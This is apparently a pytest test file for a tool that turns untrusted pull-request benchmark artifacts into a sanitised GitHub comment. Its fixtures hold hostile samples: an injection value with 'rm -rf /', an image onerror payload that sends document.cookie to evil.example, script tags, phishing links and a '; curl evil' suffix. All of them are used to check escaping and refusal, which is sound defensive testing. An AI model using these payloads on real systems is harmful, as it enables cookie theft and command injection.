"""The bench PR comment body against hostile artifacts: every byte comes from an untrusted PR."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from nox_cargo.github import comment
from nox_cargo.github.comment import ArtifactError, Report, body, neutralize

TABLE = "| case | base | head | change |\n|---|---|---|---|\n| startup | 1.0 ms | 1.1 ms | +10% |\n"


def artifact(tmp_path: Path, report: bytes | str = TABLE, pr: bytes | str = "42\n") -> Path:
    directory = tmp_path / "bench"
    directory.mkdir(exist_ok=True)
    for name, data in (("bench.md", report), ("pr-number", pr)):
        raw = data.encode() if isinstance(data, str) else data
        (directory / name).write_bytes(raw)
    return directory


def test_a_normal_report_becomes_a_sticky_comment(tmp_path: Path) -> None:
    d = artifact(tmp_path)
    assert comment.read_pr_number(d, "42") == 42
    text = body(comment.read_report(d), "https://github.com/o/r/actions/runs/123")
    assert text.startswith(comment.MARKER + "\n")
    assert "| startup | 1.0 ms | 1.1 ms | +10% |" in text  # tables stay tables
    assert "[the `bench` job](https://github.com/o/r/actions/runs/123)" in text


@pytest.mark.parametrize(
    "pr",
    [
        "42; rm -rf /",
        "abc",
        "-1",
        "0",
        "042",
        "12345678901",
        "",
        "\uff14\uff12",  # full-width digits: str.isdigit() would accept them
        "42\n43",
        b"\xff\xfe4\x002\x00",
        "1" * 100_000,
    ],
)
def test_a_pr_number_that_is_not_a_number_is_refused(tmp_path: Path, pr: str | bytes) -> None:
    with pytest.raises(ArtifactError, match="not a pull request number"):
        comment.read_pr_number(artifact(tmp_path, pr=pr), None)


def test_a_pr_number_that_is_not_the_runs_pr_is_refused(tmp_path: Path) -> None:
    d = artifact(tmp_path, pr="8")
    with pytest.raises(ArtifactError, match=r"claims pull request #8, but .* #7"):
        comment.read_pr_number(d, "7")
    with pytest.raises(ArtifactError):
        comment.read_pr_number(d, "7 or 8")
    assert comment.read_pr_number(d, "") == 8  # a fork's run names no PR: the API check decides


def test_links_and_directories_in_place_of_files_are_refused(tmp_path: Path) -> None:
    d = artifact(tmp_path)
    secret = tmp_path / "secret"
    secret.write_text("42\n")
    (d / "pr-number").unlink()
    (d / "pr-number").symlink_to(secret)
    with pytest.raises(ArtifactError, match="not a regular file"):
        comment.read_pr_number(d, None)
    (d / "bench.md").unlink()
    (d / "bench.md").mkdir()
    with pytest.raises(ArtifactError, match=r"bench\.md"):
        comment.read_report(d)


HOSTILE = """\
<!-- nox-cargo-bench -->
<script>alert(document.cookie)</script>
<img src=x onerror="fetch('https://evil.example/'+document.cookie)">
<details open><summary>click</summary>hidden</details>
[click me](https://evil.example/phish) and ![pixel](https://evil.example/track.png)
[ref]: https://evil.example/ref
<https://evil.example/auto> https://evil.example/bare www.evil.example ftp://evil.example
javascript:alert(1)
```
</sub>
~~~~
    indented <b>
cc @octocat and @some-org/security-team, mail a@b.c
\u202eevil\u202c \x1b[31mred\x07 \x00nul
&lt;script&gt; &#60;img&#62;
"""


def test_html_links_images_fences_and_mentions_are_neutralized() -> None:
    text = body(Report(HOSTILE), "https://github.com/o/r/actions/runs/1")
    content = text.split("\n", 1)[1]
    assert text.count("<!--") == 1 and text.startswith(comment.MARKER)
    assert re.findall(r"<[A-Za-z!/]", content) == ["<s", "</"]  # our own <sub>…</sub> only
    report = content.split("\n\n<sub>")[0]  # without our own footer and its link
    assert not re.search(r"(?<!\\)[\[\]]", report)  # every bracket escaped: no link, no image
    assert "https://evil" not in text and "www.evil" not in text and "ftp://" not in text
    assert "javascript:" not in text
    assert not re.search(r"(?m)^ {0,3}(```|~~~)", text)
    assert not re.search(r"@[A-Za-z0-9]", text)
    assert "@\u200doctocat" in text and "@\u200dsome-org/security-team" in text
    assert not any(c in text for c in "\u202e\u202c\x1b\x07\x00")
    assert "&amp;lt;script&amp;gt;" in text  # entities stay text


def test_neutralize_keeps_ordinary_markdown() -> None:
    assert neutralize("# Title\n\n**bold** _it_ `code` 1.5\u00d7 faster\n") == (
        "# Title\n\n**bold** _it_ `code` 1.5\u00d7 faster"
    )


def test_an_oversized_report_is_cut_with_a_note(tmp_path: Path) -> None:
    rows = "".join(f"| case {i} | {i} ms |\n" for i in range(40_000))  # ~700 KB
    report = comment.read_report(artifact(tmp_path, report=rows))
    assert report.truncated_bytes == len(rows.encode()) - comment.MAX_REPORT_BYTES
    text = body(report)
    assert len(text) <= comment.MAX_BODY_CHARS < 65_536
    assert "too long for a comment" in text and "larger than 256 KiB" in text
    assert text.rstrip().endswith("</sub>")  # the footer survives the cut


def test_one_enormous_line_is_cut_too() -> None:
    text = body(Report("x" * 500_000))
    assert len(text) <= comment.MAX_BODY_CHARS
    assert "too long for a comment" in text


def test_a_report_that_is_not_utf8_is_shown_with_replacements(tmp_path: Path) -> None:
    report = comment.read_report(artifact(tmp_path, report=b"| a | \xff\xfe\xc3 |\n"))
    assert report.invalid_utf8
    text = body(report)
    assert "| a | \ufffd" in text and "not valid UTF-8" in text


def test_a_multibyte_character_cut_at_the_size_limit_is_not_invalid(tmp_path: Path) -> None:
    data = "é" * (comment.MAX_REPORT_BYTES // 2 + 10)  # 2 bytes each, cut mid-character
    report = comment.read_report(artifact(tmp_path, report=data))
    assert not report.invalid_utf8 and report.truncated_bytes > 0


def test_an_untrusted_run_url_is_not_linked() -> None:
    text = body(Report(TABLE), "https://evil.example/x)[y](javascript:1")
    assert "evil" not in text and "the `bench` job." in text


def test_an_empty_report_says_so() -> None:
    assert "empty report" in body(Report(""))


def test_cli_writes_the_body_and_prints_the_pr(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    d = artifact(tmp_path)
    out = tmp_path / "body.md"
    assert comment.main(["--artifact", str(d), "--expected-pr", "42", "--output", str(out)]) == 0
    assert capsys.readouterr().out == "42\n"
    assert out.read_text().startswith(comment.MARKER)


def test_cli_refuses_a_hostile_artifact_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    d = artifact(tmp_path, pr="42\n; curl evil")
    out = tmp_path / "body.md"
    assert comment.main(["--artifact", str(d), "--output", str(out)]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and "not a pull request number" in captured.err
    assert not out.exists()
